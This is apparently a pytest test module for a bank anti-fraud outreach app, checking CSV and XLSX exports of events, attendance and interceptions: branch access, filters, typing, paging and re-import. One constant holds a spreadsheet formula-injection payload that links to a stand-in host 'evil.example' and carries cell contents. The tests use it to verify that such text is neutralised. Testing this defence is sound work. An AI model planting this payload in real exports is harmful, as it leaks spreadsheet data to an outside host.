"""Spreadsheet exports of events, attendance and interceptions, through the API."""

import csv
import io
from datetime import datetime
from typing import Any
from urllib.parse import unquote
from zoneinfo import ZoneInfo

import httpx
import openpyxl
import pytest

from core.formula_guard import unguard
from tests.events.conftest import Api

CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
KINDS = ("events", "attendance", "interceptions")
SHANGHAI = ZoneInfo("Asia/Shanghai")
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def read_csv(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == CSV_TYPE
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8")[1:]
    return list(csv.DictReader(io.StringIO(text, newline="")))


def read_xlsx(response: httpx.Response) -> tuple[list[dict[str, Any]], dict[str, Any], Any]:
    """Data rows as header → typed value, the totals row, and the worksheet (openpyxl)."""
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX_TYPE
    # data_only: a formula cell reads as the value stored with it (the totals).
    book = openpyxl.load_workbook(io.BytesIO(response.content), data_only=True)
    sheet = book.worksheets[0]
    grid = [list(row) for row in sheet.iter_rows(values_only=True)]
    header, body, totals = grid[0], grid[1:-1], grid[-1]
    assert totals[0] == "合计"
    titles = [str(title) for title in header]
    rows = [dict(zip(titles, cells, strict=True)) for cells in body]
    return rows, dict(zip(titles, totals, strict=True)), sheet


def xlsx_text(value: Any, money: bool = False) -> str:
    """A typed cell as the CSV writes the same value (money, China time, integers)."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.replace(tzinfo=SHANGHAI).isoformat()
    if money:
        return f"{value:.2f}"
    return str(value)


async def _intercept(client: httpx.AsyncClient, world: Any, user: str, **body: Any) -> dict:
    payload = {
        "client_ref": f"exp-{body.pop('ref')}",
        "occurred_at": "2025-06-01T14:30:00+08:00",
        "channel": "counter",
        "fraud_type": "fake_investment",
        "amount_saved": "86000.00",
        "victim_age_band": "60_plus",
        "description": "老人欲向“投资导师”转账，柜员劝阻",
        **body,
    }
    response = await client.post("/api/interceptions", json=payload, headers=world.auth(user))
    assert response.status_code == 201, response.text
    return response.json()


@pytest.fixture
async def seeded(client: httpx.AsyncClient, world: Any) -> dict[str, Any]:
    api = Api(client, world)
    campaign = await api.create_campaign()
    lecture = await api.create_event(
        title="六库反诈讲座",
        campaign_id=campaign["id"],
        branch_id=world.branches["NJ-LK"],
        starts_at="2025-05-20T09:00:00+08:00",
        ends_at="2025-05-20T10:30:00+08:00",
        host=HOSTILE,
    )
    salon = await api.create_event(
        title="向阳网点微沙龙",
        kind="salon",
        visibility="internal",
        branch_id=world.branches["NJ-LK-A"],
        starts_at="2025-05-22T15:00:00+08:00",
        ends_at="2025-05-22T16:00:00+08:00",
        venue={"name": "向阳网点", "address": "向阳路", "venue_type": "branch_hall"},
    )
    lushui = await api.create_event(
        title="泸水公开讲座",
        branch_id=world.branches["NJ-LS"],
        starts_at="2025-05-21T09:00:00+08:00",
        ends_at="2025-05-21T10:00:00+08:00",
        venue={"name": "泸水大厅", "address": "", "venue_type": "branch_hall"},
    )
    for event, people in ((lecture, 40), (salon, 12), (lushui, 25)):
        response = await client.put(
            f"/api/events/{event['id']}/attendance",
            json={
                "occurrence_start": event["starts_at"],
                "headcount": people,
                "by_audience": {"elderly": people // 2},
                "materials_distributed": 100,
                "app_installs": 7,
                "notes": "-发放折页" if event is salon else "现场互动",
            },
            headers=world.auth("admin"),
        )
        assert response.status_code in (200, 201), response.text
    big = await _intercept(client, world, "staff_lk", ref="big", event_id=lecture["id"])
    small = await _intercept(
        client,
        world,
        "staff_lka",
        ref="small",
        occurred_at="2025-06-03T09:05:00+08:00",
        fraud_type="order_brushing",
        channel="phone_callback",
        amount_saved="0.50",
        victim_age_band="18_34",
        description=HOSTILE,
        attribution_note="+86 来电",
        police_case_no="@case",
    )
    other = await _intercept(
        client, world, "staff_ls", ref="lushui", amount_saved="1200.00", description="泸水 LS-MARK"
    )
    return {
        "campaign": campaign,
        "lecture": lecture,
        "salon": salon,
        "lushui": lushui,
        "big": big,
        "small": small,
        "other": other,
    }


async def test_everyone_signed_out_gets_401(client, seeded):
    for name in KINDS:
        for extension in ("csv", "xlsx"):
            response = await client.get(f"/api/exports/{name}.{extension}")
            assert response.status_code == 401, name
            assert "MARK" not in response.text


async def test_interceptions_csv_holds_the_subtree_with_labels_and_exact_money(
    client, world, seeded
):
    response = await client.get("/api/exports/interceptions.csv", headers=world.auth("staff_lk"))
    rows = read_csv(response)
    disposition = response.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="interceptions-')
    assert unquote(disposition.split("filename*=UTF-8''")[1]).startswith("拦截记录-")
    assert response.headers["cache-control"] == "private, no-store"

    assert [r["客户端编号"] for r in rows] == ["exp-small", "exp-big"]  # newest first
    small, big = rows
    assert big["记录ID"] == str(seeded["big"]["id"])
    assert big["发生时间"] == "2025-06-01T14:30:00+08:00"
    assert big["网点代码"] == "NJ-LK"
    assert (big["渠道"], big["诈骗类型"], big["受害人年龄段"]) == (
        "柜面",
        "虚假投资理财",
        "60岁及以上",
    )
    assert big["挽回金额(元)"] == "86000.00"
    assert big["关联活动ID"] == str(seeded["lecture"]["id"])
    assert big["审核状态"] == "待审核"
    assert big["币种"] == "CNY"
    assert big["登记人"] == "staff_lk"
    assert (small["网点代码"], small["挽回金额(元)"]) == ("NJ-LK-A", "0.50")
    assert (small["渠道"], small["诈骗类型"]) == ("电话回访", "刷单返利")
    assert small["关联活动ID"] == ""
    assert "LS-MARK" not in response.text


async def test_sibling_branch_staff_exports_none_of_another_branchs_rows(client, world, seeded):
    theirs = read_csv(
        await client.get("/api/exports/interceptions.csv", headers=world.auth("staff_ls"))
    )
    assert [r["客户端编号"] for r in theirs] == ["exp-lushui"]
    events = read_csv(await client.get("/api/exports/events.csv", headers=world.auth("staff_ls")))
    # The events list shows other branches' public events; the export holds only the subtree.
    assert [r["标题"] for r in events] == ["泸水公开讲座"]
    attendance = read_csv(
        await client.get("/api/exports/attendance.csv", headers=world.auth("staff_ls"))
    )
    assert [r["活动标题"] for r in attendance] == ["泸水公开讲座"]
    for extension in ("csv", "xlsx"):
        for name in KINDS:
            response = await client.get(
                f"/api/exports/{name}.{extension}", headers=world.auth("staff_ls")
            )
            assert response.status_code == 200
            assert "六库".encode() not in response.content
    # The leaf outlet sees itself only; the admin sees everything.
    leaf = read_csv(
        await client.get("/api/exports/interceptions.csv", headers=world.auth("staff_lka"))
    )
    assert [r["客户端编号"] for r in leaf] == ["exp-small"]
    everything = read_csv(
        await client.get("/api/exports/interceptions.csv", headers=world.auth("admin"))
    )
    assert len(everything) == 3


async def test_interception_filters_narrow_the_export(client, world, seeded):
    async def refs(**params: Any) -> list[str]:
        response = await client.get(
            "/api/exports/interceptions.csv", params=params, headers=world.auth("admin")
        )
        return sorted(r["客户端编号"] for r in read_csv(response))

    assert await refs(branch="NJ-LK") == ["exp-big", "exp-small"]
    assert await refs(branch="NJ-LK-A") == ["exp-small"]
    assert await refs(fraud_type="order_brushing") == ["exp-small"]
    assert await refs(event=seeded["lecture"]["id"]) == ["exp-big"]
    assert await refs(**{"from": "2025-06-02"}) == ["exp-small"]
    assert await refs(to="2025-06-01") == ["exp-big", "exp-lushui"]
    assert await refs(status="verified") == []
    verify = await client.post(
        f"/api/interceptions/{seeded['big']['id']}/verify", json={}, headers=world.auth("coord")
    )
    assert verify.status_code == 200
    assert await refs(status="verified") == ["exp-big"]


async def test_interceptions_xlsx_has_the_same_cells_typed(client, world, seeded):
    csv_rows = read_csv(
        await client.get("/api/exports/interceptions.csv", headers=world.auth("staff_lk"))
    )
    response = await client.get("/api/exports/interceptions.xlsx", headers=world.auth("staff_lk"))
    rows, totals, sheet = read_xlsx(response)
    assert response.headers["content-disposition"].startswith(
        'attachment; filename="interceptions-'
    )
    assert ".xlsx" in response.headers["content-disposition"]
    assert [r["客户端编号"] for r in rows] == ["exp-small", "exp-big"]
    small, big = rows
    # Money is a number in yuan with a ¥ format; instants are dates in China time.
    assert big["挽回金额(元)"] == 86000
    assert small["挽回金额(元)"] == 0.5
    assert big["发生时间"] == datetime(2025, 6, 1, 14, 30)
    assert big["记录ID"] == seeded["big"]["id"]
    assert big["关联活动ID"] == seeded["lecture"]["id"]
    assert totals["挽回金额(元)"] == 86000.5
    for xlsx_row, csv_row in zip(rows, csv_rows, strict=True):
        for title, value in csv_row.items():
            # The CSV guards formula-like text; XLSX keeps it as a plain string cell.
            money = title == "挽回金额(元)"
            assert xlsx_text(xlsx_row[title], money) == unguard(value), title
    assert small["情况说明"] == HOSTILE
    assert sheet["I3"].data_type == "s"  # typed text is a string cell, never a formula
    assert sheet.freeze_panes == "A2"
    # The totals follow the autofilter in Excel: SUBTOTAL over the visible rows.
    formulas = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert formulas["G4"].value == "=SUBTOTAL(109,G2:G3)"


async def test_formula_like_text_is_neutralised_in_csv(client, world, seeded):
    rows = read_csv(
        await client.get("/api/exports/interceptions.csv", headers=world.auth("staff_lka"))
    )
    (small,) = rows
    assert small["情况说明"] == "'" + HOSTILE
    assert small["归因说明"] == "'+86 来电"
    assert small["警情编号"] == "'@case"
    # Amounts and times are the system's own text and stay importable.
    assert small["挽回金额(元)"] == "0.50"
    assert small["发生时间"] == "2025-06-03T09:05:00+08:00"
    events = read_csv(await client.get("/api/exports/events.csv", headers=world.auth("coord")))
    lecture = next(r for r in events if r["标题"] == "六库反诈讲座")
    assert lecture["主讲人"] == "'" + HOSTILE
    attendance = read_csv(
        await client.get("/api/exports/attendance.csv", headers=world.auth("coord"))
    )
    salon = next(r for r in attendance if r["活动标题"] == "向阳网点微沙龙")
    assert salon["备注"] == "'-发放折页"


async def test_exported_interceptions_import_back(client, world, seeded):
    staff = world.auth("staff_lk")
    exported = await client.get("/api/exports/interceptions.csv", headers=staff)
    assert exported.status_code == 200

    # The same file again: every row is already stored, nothing is duplicated.
    again = await client.post(
        "/api/imports/interceptions",
        content=exported.content,
        headers={**staff, "Content-Type": "text/csv"},
    )
    assert again.status_code == 201, again.text
    assert again.json()["imported"] == 0
    assert sorted(s["client_ref"] for s in again.json()["skipped"]) == ["exp-big", "exp-small"]

    # With new client_refs, as another office would re-key the rows: all rows come in.
    text = exported.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    ref = header.index("客户端编号")
    for row in body:
        row[ref] = "copy-" + row[ref]
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows([header, *body])
    rekeyed = "\ufeff" + buffer.getvalue()
    response = await client.post(
        "/api/imports/interceptions",
        files={"file": ("拦截记录.csv", rekeyed.encode("utf-8"), "text/csv")},
        headers=staff,
    )
    assert response.status_code == 201, response.text
    assert response.json()["imported"] == 2
    assert "记录ID" in response.json()["ignored_columns"]

    after = read_csv(await client.get("/api/exports/interceptions.csv", headers=staff))
    by_ref = {r["客户端编号"]: r for r in after}
    for original in ("exp-big", "exp-small"):
        copy = by_ref["copy-" + original]
        source = by_ref[original]
        for title in ("发生时间", "网点代码", "渠道", "诈骗类型", "挽回金额(元)", "受害人年龄段"):
            assert copy[title] == source[title], title
        assert copy["关联活动ID"] == source["关联活动ID"]
        assert copy["审核状态"] == "待审核"
    listed = await client.get("/api/interceptions", params={"limit": 100}, headers=staff)
    amounts = sorted(i["amount_saved"] for i in listed.json()["items"])
    assert amounts == ["0.50", "0.50", "86000.00", "86000.00"]


async def test_events_export_with_the_list_filters(client, world, seeded):
    coord = world.auth("coord")

    async def titles(extension: str = "csv", **params: Any) -> list[str]:
        response = await client.get(
            f"/api/exports/events.{extension}", params=params, headers=coord
        )
        rows = read_csv(response) if extension == "csv" else read_xlsx(response)[0]
        return [r["标题"] for r in rows]

    everything = ["六库反诈讲座", "泸水公开讲座", "向阳网点微沙龙"]
    assert await titles() == everything
    assert await titles("xlsx") == everything
    assert await titles(kind="salon") == ["向阳网点微沙龙"]
    assert await titles(branch="NJ-LK") == ["六库反诈讲座", "向阳网点微沙龙"]
    assert await titles(campaign=seeded["campaign"]["id"]) == ["六库反诈讲座"]
    assert await titles(q="沙龙") == ["向阳网点微沙龙"]
    assert await titles(status="draft") == []
    assert await titles(**{"from": "2025-05-21T12:00:00+08:00"}) == ["向阳网点微沙龙"]
    assert await titles("xlsx", to="2025-05-20") == ["六库反诈讲座"]
    xlsx, _, _ = read_xlsx(await client.get("/api/exports/events.xlsx", headers=coord))
    assert xlsx[0]["开始时间"] == datetime(2025, 5, 20, 9, 0)
    assert xlsx[0]["活动ID"] == seeded["lecture"]["id"]

    rows = read_csv(await client.get("/api/exports/events.csv", headers=coord))
    lecture = rows[0]
    assert lecture["活动ID"] == str(seeded["lecture"]["id"])
    assert lecture["开始时间"] == "2025-05-20T09:00:00+08:00"
    assert lecture["结束时间"] == "2025-05-20T10:30:00+08:00"
    assert lecture["网点代码"] == "NJ-LK"
    assert lecture["宣传活动"] == "2025年金融知识进万家"
    assert lecture["时区"] == "Asia/Shanghai"
    assert rows[2]["可见范围"] == "internal"


async def test_attendance_export_with_filters(client, world, seeded):
    coord = world.auth("coord")

    async def rows_of(extension: str = "csv", **params: Any) -> list[dict[str, Any]]:
        response = await client.get(
            f"/api/exports/attendance.{extension}", params=params, headers=coord
        )
        return read_csv(response) if extension == "csv" else read_xlsx(response)[0]

    rows = await rows_of()
    assert [r["活动标题"] for r in rows] == ["六库反诈讲座", "泸水公开讲座", "向阳网点微沙龙"]
    lecture = rows[0]
    assert lecture["场次开始时间"] == "2025-05-20T09:00:00+08:00"
    assert (lecture["受众人次"], lecture["其中老年人"], lecture["其中学生"]) == ("40", "20", "")
    assert (lecture["发放资料(份)"], lecture["协助安装反诈APP"]) == ("100", "7")
    assert lecture["登记人"] == "admin"
    assert lecture["网点代码"] == "NJ-LK"
    xlsx = await rows_of("xlsx")
    assert [r["受众人次"] for r in xlsx] == [40, 25, 12]
    assert [r["其中学生"] for r in xlsx] == [None, None, None]
    _, totals, sheet = read_xlsx(await client.get("/api/exports/attendance.xlsx", headers=coord))
    assert (totals["受众人次"], totals["其中老年人"], totals["发放资料(份)"]) == (77, 38, 300)
    assert sheet["E2"].number_format == "#,##0"
    assert [r["活动标题"] for r in await rows_of(branch="NJ-LK-A")] == ["向阳网点微沙龙"]
    assert [r["活动标题"] for r in await rows_of(event=seeded["lushui"]["id"])] == ["泸水公开讲座"]
    assert [r["活动标题"] for r in await rows_of(campaign=seeded["campaign"]["id"])] == [
        "六库反诈讲座"
    ]
    assert len(await rows_of(**{"from": "2025-05-21", "to": "2025-05-21"})) == 1
    staff = read_csv(
        await client.get("/api/exports/attendance.csv", headers=world.auth("staff_lka"))
    )
    assert [r["活动标题"] for r in staff] == ["向阳网点微沙龙"]


async def test_bad_filters_answer_422_with_a_detail(client, world, seeded):
    coord = world.auth("coord")
    cases = [
        ("events.csv", {"branch": "NOPE"}),
        ("events.xlsx", {"from": "yesterday"}),
        ("attendance.csv", {"branch": "NOPE"}),
        ("attendance.xlsx", {"from": "2025-06-02", "to": "2025-06-01"}),
        ("interceptions.csv", {"to": "2025-13-45"}),
        ("interceptions.xlsx", {"branch": "NOPE"}),
    ]
    for path, params in cases:
        response = await client.get(f"/api/exports/{path}", params=params, headers=coord)
        assert response.status_code == 422, (path, response.text)
        assert response.json()["detail"]
    response = await client.get(
        "/api/exports/interceptions.csv", params={"fraud_type": "bogus"}, headers=coord
    )
    assert response.status_code == 400


async def test_exports_read_every_page_in_order(client, world, seeded, monkeypatch):
    """Rows are read a page at a time (keyset); tiny pages must still give every row once."""
    from exports import export_rows

    for n in range(5):
        await _intercept(
            client, world, "staff_lk", ref=f"page-{n}", occurred_at="2025-06-01T14:30:00+08:00"
        )
    whole = read_csv(
        await client.get("/api/exports/interceptions.csv", headers=world.auth("admin"))
    )
    monkeypatch.setattr(export_rows, "PAGE_ROWS", 2)
    coord = world.auth("coord")
    paged = read_csv(await client.get("/api/exports/interceptions.csv", headers=coord))
    # Same time for six rows: the id breaks the tie, newest first, none lost or repeated.
    assert paged == whole
    assert len(paged) == 8
    xlsx_rows = read_xlsx(await client.get("/api/exports/interceptions.xlsx", headers=coord))[0]
    assert [r["记录ID"] for r in xlsx_rows] == [int(r["记录ID"]) for r in whole]
    events = read_csv(await client.get("/api/exports/events.csv", headers=coord))
    assert [r["标题"] for r in events] == ["六库反诈讲座", "泸水公开讲座", "向阳网点微沙龙"]
    attendance = read_csv(await client.get("/api/exports/attendance.csv", headers=coord))
    assert [r["受众人次"] for r in attendance] == ["40", "25", "12"]


async def test_a_long_workbook_goes_on_in_a_second_sheet(client, world, seeded, monkeypatch):
    from exports import xlsx_file

    monkeypatch.setattr(xlsx_file, "SHEET_DATA_ROWS", 2)
    response = await client.get("/api/exports/interceptions.xlsx", headers=world.auth("admin"))
    book = openpyxl.load_workbook(io.BytesIO(response.content), data_only=True)
    assert book.sheetnames == ["拦截记录", "拦截记录(2)"]
    first, second = (list(ws.iter_rows(values_only=True)) for ws in book.worksheets)
    assert [len(first), len(second)] == [4, 3]  # header, rows, totals
    assert first[0] == second[0]
    money = first[0].index("挽回金额(元)")
    # Newest first: the small one, then Lushui and the big one at the same minute.
    assert [first[-1][money], second[-1][money]] == [1200.5, 86000]
    assert book.worksheets[1].auto_filter.ref == "A1:Q2"


async def test_event_times_are_shown_in_the_events_own_zone(client, world):
    api = Api(client, world)
    await api.create_event(
        title="柏林线上讲座",
        kind="online",
        branch_id=world.branches["NJ-LK"],
        starts_at="2025-03-14T10:00:00+08:00",
        ends_at="2025-03-14T11:00:00+08:00",
        timezone="Europe/Berlin",
        venue={"name": "线上", "address": "", "venue_type": "online"},
    )
    (row,) = read_csv(await client.get("/api/exports/events.csv", headers=world.auth("coord_lk")))
    assert (row["开始时间"], row["结束时间"]) == (
        "2025-03-14T03:00:00+01:00",
        "2025-03-14T04:00:00+01:00",
    )
    assert row["时区"] == "Europe/Berlin"
